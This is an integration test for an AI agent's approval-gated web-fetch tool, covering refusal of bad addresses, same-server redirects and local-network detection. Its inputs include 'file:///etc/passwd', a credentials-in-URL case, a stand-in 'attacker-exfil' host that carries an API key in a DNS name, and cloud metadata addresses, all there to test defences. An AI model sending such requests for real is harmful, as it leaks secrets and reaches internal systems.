/**
 * fetch_web_page: the agent reads a page from a real web server on a
 * loopback port, but only after the user saw the whole address and the
 * server it goes to, every time. A rejected address is never requested; an
 * address the model stuffed with credentials or made of something else than
 * http(s) is refused before anyone is asked; an untrusted workspace and the
 * hearth.chat.fetchWebPages switch keep the tool away from the model.
 */
import * as assert from 'node:assert/strict';
import * as dns from 'node:dns/promises';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { readWebPage } from '../../language-server/chat/readWebPage';
import { isLocalHost } from '../../language-server/chat/isLocalHost';
import { createTurnExecutor } from '../../language-server/tools/workspaceToolExecutor';
import type { ApprovalGateway, WebPageFetcher } from '../../language-server/tools/toolTypes';
import { DEFAULT_TOOL_POLICY } from '../../language-server/tools/toolTypes';
import type { ToolResult } from '../../protocol/chat';
import { ChatSendRequest, WebPageApprovalRequest, WorkspaceTrustNotification, type WebPageApprovalParams } from '../../protocol/lspMethods';
import { recordingGateway } from '../fixtures/approvalGateways';
import { startOllamaFixture, type OllamaFixture } from '../fixtures/ollamaFixture';
import { startWebPageServer, type WebPageServer } from '../fixtures/webPageServer';
import { startLspTestClient, type LspTestClient } from './lspTestClient';

const PAGE = '<html><head><title>Release notes</title></head><body><nav>MENU</nav><main><h1>v2.0</h1><p>The <code>legacy</code> flag was removed.</p></main></body></html>';

describe('fetch_web_page (integration)', function () {
  this.timeout(30_000);
  let site: WebPageServer;
  let workspace: string;
  /** What the language server gives the tool, except that `.test` names resolve to 127.0.0.1 here (they resolve nowhere else) and `.invalid` ones fail at once. */
  const resolved: string[] = [];
  const fetcher: WebPageFetcher = {
    proxyFor: async () => undefined,
    resolve: async (hostname) => {
      resolved.push(hostname);
      if (hostname.endsWith('.test')) return { address: '127.0.0.1', family: 4 };
      // `.invalid` never resolves (RFC 6761); answered here as the resolver would, without waiting on this machine's DNS.
      if (hostname.endsWith('.invalid')) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' });
      return dns.lookup(hostname, { verbatim: true });
    },
    read: (url, signal, route) => readWebPage(url, { ...route, signal, redirects: 'same-origin' }),
  };
  let elsewhere: WebPageServer;

  before(async () => {
    elsewhere = await startWebPageServer({ '/landing': { body: '<p>another server</p>' } });
    site = await startWebPageServer({
      '/notes': { body: PAGE },
      '/notes?v=2': { body: PAGE },
      '/old-notes': { status: 302, headers: { location: '/notes?v=2' } },
      '/away': { status: 302, headers: { location: `${elsewhere.url}/landing` } },
    });
    workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-fetch-ws-'));
  });
  after(async () => {
    await site.close();
    await elsewhere.close();
    fs.rmSync(workspace, { recursive: true, force: true });
  });

  function executor(approvals: ApprovalGateway, options: { trusted?: boolean; webPages?: WebPageFetcher | null } = {}) {
    return createTurnExecutor({
      turnId: 't1',
      workspaceFolders: [workspace],
      policy: { ...DEFAULT_TOOL_POLICY, trusted: options.trusted ?? true },
      approvals,
      checkpoints: fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-fetch-cp-')),
      ripgrepPath: null,
      webPages: options.webPages === null ? undefined : (options.webPages ?? fetcher),
    });
  }
  const call = (url: unknown, id = 'c1') => ({ id, name: 'fetch_web_page', arguments: { url } });

  it('asks with the whole address and its server, then gives the model the page as Markdown', async () => {
    const gateway = recordingGateway({ webPages: ['accept'] });
    const url = `${site.url}/notes?v=2`;
    const result = await executor(gateway).execute(call(url), new AbortController().signal);
    assert.equal(result.isError, false, result.content);
    assert.match(result.content, /^"Release notes" — http:\/\/127\.0\.0\.1:\d+\/notes\?v=2\n/);
    assert.match(result.content, /# v2\.0\n\nThe `legacy` flag was removed\./);
    assert.ok(!result.content.includes('MENU'));
    assert.deepEqual(gateway.webPages.map((r) => ({ url: r.url, host: r.host, local: r.local })), [{ url, host: new URL(site.url).host, local: true }]);
  });

  it('fetches nothing the user rejected, and refuses bad addresses without asking', async () => {
    const gateway = recordingGateway({ webPages: ['reject'] });
    const before = site.requests.length;
    const rejected = await executor(gateway).execute(call(`${site.url}/notes?secret=abc`), new AbortController().signal);
    assert.equal(rejected.isError, true);
    assert.match(rejected.content, /The user did not allow fetching .*Nothing was fetched\. Do not try to reach it another way/);
    for (const [bad, why] of [
      ['file:///etc/passwd', /must be a full http:\/\/ or https:\/\/ address/],
      ['ftp://example.com/x', /must be a full http:\/\/ or https:\/\/ address/],
      [`http://user:pw@${new URL(site.url).host}/notes`, /user name or password are not fetched/],
      [`${site.url}/notes?d=${'x'.repeat(3000)}`, /3\d{3} characters long/],
      [42, /"url"/],
    ] as const) {
      const result = await executor(gateway).execute(call(bad), new AbortController().signal);
      assert.equal(result.isError, true, String(bad));
      assert.match(result.content, why);
    }
    assert.equal(gateway.webPages.length, 1, 'only the well-formed address was asked about');
    assert.equal(site.requests.length, before, 'the server was never contacted');
  });

  it('is not offered, and refuses, in an untrusted workspace or with fetching turned off', async () => {
    for (const [options, why] of [
      [{ trusted: false }, /this workspace is not trusted/],
      [{ webPages: null }, /Fetching web pages is turned off/],
    ] as const) {
      const gateway = recordingGateway({ webPages: ['accept'] });
      const ex = executor(gateway, options);
      assert.ok(!ex.definitions().some((d) => d.name === 'fetch_web_page'));
      const result = await ex.execute(call(`${site.url}/notes`), new AbortController().signal);
      assert.match(result.content, why);
      assert.equal(gateway.webPages.length, 0);
    }
  });

  it('follows a redirect within the approved server only; another server needs its own approval', async () => {
    const gateway = recordingGateway({ webPages: ['accept'] });
    const same = await executor(gateway).execute(call(`${site.url}/old-notes`), new AbortController().signal);
    assert.equal(same.isError, false, same.content);
    assert.match(same.content, /\(redirected from http:\/\/127\.0\.0\.1:\d+\/old-notes\)/);
    const away = await executor(gateway).execute(call(`${site.url}/away`), new AbortController().signal);
    assert.equal(away.isError, true);
    assert.equal(
      away.content,
      `${site.url}/away could not be read: it redirects to ${elsewhere.url}/landing, on another server, which was not fetched. If that page is what you need, call fetch_web_page with its address; the user is asked again.`,
    );
    assert.equal(elsewhere.requests.length, 0, 'the other server was never contacted');
  });

  it('asks before the name is even looked up, then asks again when it leads into the local network, and connects to the address it showed', async () => {
    const gateway = recordingGateway({ webPages: ['accept', 'accept'] });
    const url = `http://docs.hearth.test:${new URL(site.url).port}/notes`;
    const result = await executor(gateway).execute(call(url), new AbortController().signal);
    assert.equal(result.isError, false, result.content);
    assert.match(result.content, /The `legacy` flag was removed\./, 'the page came from the address resolved after asking (the name resolves nowhere else)');
    assert.deepEqual(
      gateway.webPages.map((r) => [r.local, r.resolvesTo]),
      [
        [false, undefined],
        [true, '127.0.0.1'],
      ],
      'first the address alone, then where its name leads',
    );
    assert.ok(resolved.includes('docs.hearth.test'));

    // A name that would carry workspace text to someone's DNS server is never looked up unless the user allows it.
    resolved.length = 0;
    const leak = recordingGateway({ webPages: ['reject'] });
    const rejected = await executor(leak).execute(call('https://apikey-s3cr3t.attacker-exfil.invalid/licence'), new AbortController().signal);
    assert.equal(rejected.isError, true);
    assert.deepEqual(resolved, [], 'no DNS lookup before the answer');
    const requestsBefore = site.requests.length;
    const local = recordingGateway({ webPages: ['accept', 'reject'] });
    const refusedLocal = await executor(local).execute(call(url), new AbortController().signal);
    assert.match(refusedLocal.content, /The user did not allow fetching .* \(its name leads to 127\.0\.0\.1, on this machine or the local network\)\. Nothing was fetched\./);
    assert.equal(site.requests.length, requestsBefore, 'a local address the user refused is never requested');

    const missing = await executor(recordingGateway({ webPages: ['accept'] })).execute(call('http://no-such-host.invalid/x'), new AbortController().signal);
    assert.match(missing.content, /was not fetched: the host no-such-host\.invalid could not be found \(ENOTFOUND\)/);
  });

  it('tells public hosts from this machine and private networks', () => {
    for (const host of ['localhost', '127.0.0.1', '10.1.2.3', '172.20.0.1', '192.168.1.10', '169.254.169.254', '[::1]', '[fd00::1]', 'intranet', 'nas.local', 'build.corp.internal', 'localhost.', 'metadata.google.internal.', 'nas.local.']) {
      assert.equal(isLocalHost(host), true, host);
    }
    for (const host of ['docs.python.org', '8.8.8.8', '172.32.0.1', '[2606:4700::1111]']) assert.equal(isLocalHost(host), false, host);
  });

  it('runs through the real language server: the editor is asked, and the model gets the page as the tool result', async () => {
    const fixture: OllamaFixture = await startOllamaFixture();
    const storage = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-fetch-ls-'));
    let client: LspTestClient | undefined;
    try {
      client = await startLspTestClient({ storagePath: storage, workspace, settings: { ollama: { host: fixture.url }, chat: { model: 'qwen2.5-coder:7b' } } });
      const asked: WebPageApprovalParams[] = [];
      client.connection.onRequest(WebPageApprovalRequest.type, (p) => {
        asked.push(p);
        return { decision: 'accept' };
      });
      await client.connection.sendNotification(WorkspaceTrustNotification.type, { trusted: true });
      const url = `${site.url}/notes`;
      fixture.enqueue({ kind: 'toolCalls', calls: [{ name: 'fetch_web_page', arguments: { url } }] }, { kind: 'text', text: 'The legacy flag is gone in v2.0.' });
      const started = await client.connection.sendRequest(ChatSendRequest.type, { input: { text: 'What changed in v2?', context: [] } });
      await client.waitForEvent((e) => e.entryId === started.assistantEntryId && e.event.type === 'done', 20_000);
      const offered = (fixture.requests.find((r) => r.path === '/api/chat')?.body.tools as { function: { name: string } }[]).map((t) => t.function.name);
      assert.ok(offered.includes('fetch_web_page'));
      assert.deepEqual(asked.map((p) => [p.url, p.host, p.local, p.entryId]), [[url, new URL(site.url).host, true, started.assistantEntryId]]);
      const result = client.events.find((e) => e.entryId === started.assistantEntryId && e.event.type === 'toolResult')?.event as { result: ToolResult };
      assert.equal(result.result.isError, false);
      const toolMessage = (fixture.requests.filter((r) => r.path === '/api/chat').at(-1)?.body.messages as { role: string; content: string }[]).find((m) => m.role === 'tool');
      assert.match(toolMessage?.content ?? '', /The `legacy` flag was removed\./);
    } finally {
      await client?.stop();
      await fixture.close();
      fs.rmSync(storage, { recursive: true, force: true });
    }
  });
});
